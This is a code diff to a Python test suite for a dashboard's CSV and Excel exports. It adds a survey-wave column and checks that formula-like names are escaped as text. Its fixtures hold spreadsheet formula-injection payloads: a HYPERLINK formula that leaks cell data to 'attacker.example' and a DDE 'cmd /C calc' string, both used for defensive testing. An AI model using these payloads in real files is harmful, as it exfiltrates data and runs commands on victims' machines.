@@ -30,12 +30,13 @@ def dashboard(org_a, departments_a, today):
 
 
 def _csv_rows(dashboard, delimiter=","):
-    """The CSV's rows by (table, group, measure code): (value, band, why hidden)."""
+    """The CSV's rows by (table, group, measure code): (value, band, why hidden); every row
+    here is of this campaign's wave (no earlier wave, no trends)."""
     text = exports.dashboard_csv(dashboard).decode("utf-8")
     assert text.startswith("\ufeff")
     reader = csv.reader(io.StringIO(text[1:]), delimiter=delimiter)
     next(reader)
-    return {(r[0], r[1], r[2]): (r[5], r[6], r[7]) for r in reader}
+    return {(r[0], r[1], r[3]): (r[6], r[7], r[8]) for r in reader}
 
 
 def test_the_csv_is_one_tidy_table_with_the_dashboards_numbers(dashboard):
@@ -99,7 +100,7 @@ def test_the_xlsx_data_sheet_is_the_csv(dashboard):
     sheet = [[c.value for c in row] for row in workbook["data"].iter_rows(min_row=2)]
     rows = _csv_rows(dashboard)
     assert len(sheet) == len(rows)
-    for table, group, code, _label, _n, value, band, hidden in sheet:
+    for table, group, _wave, code, _label, _n, value, band, hidden in sheet:
         written = rows[(table, group, code)]
         assert written[1:] == (band or "", hidden or "")
         if isinstance(value, int | float):
@@ -196,11 +197,15 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
 @pytest.fixture
 def hostile_names(org_a, departments_a, today):
     """Department and campaign names that a spreadsheet would run as formulas, with the
-    figures of a closed campaign (so every table is exported)."""
+    figures of a closed campaign and of an earlier one (so every table is exported, the
+    trends with the earlier wave's name in a header and in the CSV's Wave column)."""
     care, kitchen, _office = departments_a
     care.name, kitchen.name = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
     care.save()
     kitchen.save()
+    earlier = closed_campaign(org_a, today=today, name="-Wave 0", closed_days_ago=100)
+    add_responses(earlier, care, 6, overall=50.0)
+    add_responses(earlier, kitchen, 6, overall=50.0)
     campaign = closed_campaign(org_a, today=today, name="+Wave -1")
     add_responses(campaign, care, 6, overall=60.0)
     add_responses(campaign, kitchen, 6, overall=40.0)
@@ -215,6 +220,9 @@ def test_text_that_looks_like_a_formula_is_exported_as_text(hostile_names):
     assert "'" + FORMULA in groups
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in groups
     assert not any(cell.startswith(("=", "+", "-", "@")) for key in rows for cell in key)
+    text = exports.dashboard_csv(hostile_names).decode("utf-8-sig")
+    waves = {row[2] for row in list(csv.reader(io.StringIO(text)))[1:]}
+    assert {wave.split(" (")[0] for wave in waves} == {"'-Wave 0", "'+Wave -1"}
 
     workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(hostile_names)))
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
@@ -222,6 +230,8 @@ def test_text_that_looks_like_a_formula_is_exported_as_text(hostile_names):
     assert "'" + FORMULA in texts
     assert all(cell.data_type != "f" for cell in cells)  # no formula anywhere
     assert "Organisation A – +Wave -1" in texts  # only a cell's start matters
+    headings = [cell.value for cell in workbook["trends"][2]]
+    assert any(str(heading).startswith("'-Wave 0 (") for heading in headings)
 
 
 def test_negative_numbers_stay_numbers_in_the_spreadsheet():
